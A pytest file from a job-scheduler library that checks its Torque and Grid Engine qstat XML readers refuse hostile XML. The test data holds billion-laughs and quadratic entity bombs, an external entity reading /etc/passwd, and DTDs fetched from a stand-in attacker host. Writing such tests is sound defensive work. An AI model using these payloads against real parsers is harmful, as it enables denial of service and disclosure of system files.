"""Hostile XML against the dialects' fast readers: every refusal of safexml still holds.

Torque ``qstat -x`` and Grid Engine ``qstat -xml`` are read by strict scanners first (one
regular expression per job, see ``remotejobs_torque._qstat_xml`` and
``remotejobs_sge._qstat``) and by :func:`remotejobs.safexml.fromstring` for any document
outside the scanners' grammar. These documents have exactly the layout the scanners accept
*except* for a DTD or an entity: the scanner must hand them over, and the dialect must then
refuse them as safexml does (a ``SchedulerError`` naming the DTD, or not well-formed XML),
never read a record from them.
"""

from __future__ import annotations

import pytest
from remotejobs_sge._qstat import _scan as sge_scan
from remotejobs_sge.dialect import SgeDialect
from remotejobs_torque._qstat_xml import _scan as torque_scan
from remotejobs_torque.dialect import _ATTRIBUTES, TorqueDialect

from remotejobs.errors import SchedulerError
from remotejobs.safexml import UnsafeXMLError, fromstring
from remotejobs.testing import scoreboard
from remotejobs.transport.base import CommandResult

_TORQUE = ("<Data><Job><Job_Id>1.srv</Job_Id><Job_Name>{value}</Job_Name><Job_Owner>rjalice@srv</Job_Owner>"
           "<job_state>R</job_state><queue>batch</queue></Job></Data>\n")
_SGE = ("<job_info>\n<queue_info>\n<job_list state=\"running\"><JB_job_number>1</JB_job_number>"
        "<JB_name>{value}</JB_name><JB_owner>rjalice</JB_owner><state>r</state><slots>1</slots></job_list>\n"
        "</queue_info>\n<job_info>\n</job_info>\n</job_info>\n")
_LAUGHS = ('<!ENTITY a "aaaaaaaaaa">'
           + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)))
#: (DTD, the value that uses it): each is what entity expansion or external entities need.
DTDS = {
    "billion-laughs": (f"<!DOCTYPE {{root}} [{_LAUGHS}]>", "&i;"),
    "quadratic": ('<!DOCTYPE {root} [<!ENTITY q "' + "q" * 100_000 + '">]>', "&q;" * 1_000),
    "external-entity": ('<!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
    "parameter-entity": ('<!DOCTYPE {root} [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>', "x"),
    "external-dtd": ('<!DOCTYPE {root} SYSTEM "http://attacker.invalid/d.dtd">', "&x;"),
    "unparsed-entity": ('<!DOCTYPE {root} [<!NOTATION n SYSTEM "n"><!ENTITY u SYSTEM "u" NDATA n>]>', "x"),
    "empty-doctype": ("<!DOCTYPE {root}>", "x"),
    "after-a-comment": ("<!-- qstat --><!DOCTYPE {root} [<!ENTITY e \"forged\">]>", "&e;"),
}
DECLARATIONS = ['<?xml version="1.0"?>\n', ""]


def _result(stdout: str) -> CommandResult:
    return CommandResult(argv=("qstat",), exit_status=0, stdout=stdout, stderr="")


@pytest.mark.parametrize("declaration", DECLARATIONS, ids=["declared", "bare"])
@pytest.mark.parametrize("kind", DTDS)
def test_a_dtd_in_a_qstat_layout_is_handed_over_and_refused(kind: str, declaration: str) -> None:
    dtd, value = DTDS[kind]
    torque = declaration + dtd.format(root="Data") + _TORQUE.format(value=value)
    sge = declaration + dtd.format(root="job_info") + _SGE.format(value=value)
    assert torque_scan(torque.strip(), _ATTRIBUTES | {"Job_Id", "job_state"}) is None
    assert sge_scan(sge.strip()) is None
    for text in (torque, sge):
        with pytest.raises(UnsafeXMLError, match="DTD"):
            fromstring(text)
    # Torque reads a document that starts with neither "<?xml" nor "<Data" as qstat -f
    # text (whatever the status format): refused there too.
    words = "DTD" if declaration else "qstat output"
    for dialect in (TorqueDialect(status_format="xml"), TorqueDialect(status_format="auto")):
        with pytest.raises(SchedulerError, match=words):
            dialect.parse_status(_result(torque), ["1.srv"])
        with pytest.raises(SchedulerError, match=words):
            dialect.parse_jobs(_result(torque), "rjalice")
    with pytest.raises(SchedulerError, match="DTD"):
        SgeDialect().parse_status(_result(sge), ["1"])
    with pytest.raises(SchedulerError, match="DTD"):
        SgeDialect().parse_jobs(_result(sge), "rjalice")
    scoreboard.record("XML bombs refused", 6)


@pytest.mark.parametrize("value", ["&x;", "&#0;", "&#x1;", "&amp", "& b", "a]]>b", "a\x00b"])
def test_a_bad_reference_without_a_dtd_is_never_read_as_text(value: str) -> None:
    """An undefined entity, a forbidden character reference or a bare ``&`` is not
    well-formed: refused (or, for Torque's control characters, replaced), never a name."""
    for dialect in (TorqueDialect(status_format="xml"), TorqueDialect(status_format="auto")):
        try:
            infos = dialect.parse_status(_result(_TORQUE.format(value=value)), ["1.srv"])
        except SchedulerError as exc:
            assert "well-formed" in str(exc) or "qstat" in str(exc)
        else:  # only a raw control character is read: Torque's reader replaces it by U+FFFD
            assert value == "a\x00b" and infos["1.srv"].name == "a\ufffdb"
    with pytest.raises(SchedulerError):
        SgeDialect().parse_status(_result(_SGE.format(value=value)), ["1"])
